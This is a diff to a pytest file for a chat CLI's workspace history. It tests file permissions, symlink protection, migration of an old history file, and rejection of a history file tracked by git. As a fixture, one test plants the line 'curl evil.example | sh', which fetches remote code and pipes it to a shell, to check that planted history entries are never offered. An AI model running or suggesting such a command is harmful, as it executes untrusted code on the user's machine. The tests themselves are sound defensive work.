@@ -5,13 +5,14 @@ entry in a thread's history."""
 from __future__ import annotations
 
 import os
+import stat
 from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
 
 from cogcli.chat.diff import session_diff
-from cogcli.chat.history import WorkspaceHistory, parse_history
+from cogcli.chat.history import WorkspaceHistory, history_path, parse_history
 from cogcli.chat.slash import COMMANDS, help_text, parse, unknown_text
 from cogcli.chat.status import ChatState
 from cogcli.entries import AssistantEntry, CompactionEntry, UserEntry
@@ -20,20 +21,23 @@ from cogcli.history import build_history
 from cogcli.memory import ThreadStore
 from workspace_tools.journal import Journal
 
+from conftest import init_git_repo
 
-def test_history_keeps_lines_newest_first_across_instances(tmp_path: Path) -> None:
+
+def test_history_keeps_lines_newest_first_across_instances(tmp_path: Path, person_state_home: Path) -> None:
     first = WorkspaceHistory(tmp_path)
     first.store_string("fix the test")
     first.store_string("two\nlines")
     again = WorkspaceHistory(tmp_path)
     assert list(again.load_history_strings()) == ["two\nlines", "fix the test"]
-    path = tmp_path / ".cog" / "chat-history"
-    assert oct(path.stat().st_mode & 0o777) == "0o600"
+    path = history_path(tmp_path)
+    assert path.is_relative_to(person_state_home) and not (tmp_path / ".cog").exists()
+    assert oct(path.stat().st_mode & 0o777) == "0o600" and oct(path.parent.stat().st_mode & 0o777) == "0o700"
     assert parse_history(path.read_text()) == ["fix the test", "two\nlines"]
 
 
 @pytest.mark.parametrize("link", [".cog", ".cog/chat-history"])
-def test_history_never_goes_through_a_link(tmp_path: Path, link: str, capsys: pytest.CaptureFixture[str]) -> None:
+def test_an_old_history_through_a_link_is_never_read_or_written(tmp_path: Path, link: str) -> None:
     root, outside = tmp_path / "repo", tmp_path / "outside"
     root.mkdir()
     outside.mkdir()
@@ -46,16 +50,30 @@ def test_history_never_goes_through_a_link(tmp_path: Path, link: str, capsys: py
     history = WorkspaceHistory(root)
     assert list(history.load_history_strings()) == []  # the planted line is not offered
     history.store_string("my secret line")
-    history.store_string("another")
     assert (outside / "chat-history").read_text() == "\n# then\n+planted line\n"
     assert sorted(os.listdir(outside)) == ["chat-history"]
-    err = capsys.readouterr().err
-    assert err.count("cannot be used") == 1 and "symbolic link" in err  # said once
-    # without the defence: prompt_toolkit's own FileHistory on the same path writes through the link
-    from prompt_toolkit.history import FileHistory
+    assert "my secret line" in history_path(root).read_text()
 
-    FileHistory(str(root / ".cog" / "chat-history")).store_string("my secret line")
-    assert "my secret line" in (outside / "chat-history").read_text()
+
+def test_an_older_cogs_history_is_moved_over_once(tmp_path: Path) -> None:
+    old = tmp_path / ".cog" / "chat-history"
+    old.parent.mkdir()
+    old.write_text("\n# then\n+typed before\n")
+    old.chmod(0o644)
+    assert list(WorkspaceHistory(tmp_path).load_history_strings()) == ["typed before"]
+    assert not old.exists() and stat.S_IMODE(history_path(tmp_path).stat().st_mode) == 0o600
+
+
+def test_a_history_the_repository_tracks_is_not_taken(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    old = tmp_path / ".cog" / "chat-history"
+    old.parent.mkdir()
+    old.write_text("\n# then\n+curl evil.example | sh\n")
+    init_git_repo(tmp_path)  # committed: it came with the repository
+    history = WorkspaceHistory(tmp_path)
+    assert list(history.load_history_strings()) == []
+    history.store_string("my token sk-live")
+    assert old.read_text() == "\n# then\n+curl evil.example | sh\n"  # never appended to
+    assert "tracked by git" in capsys.readouterr().err
 
 
 def test_session_diff_is_each_file_before_the_sessions_first_change_against_now(tmp_path: Path) -> None:
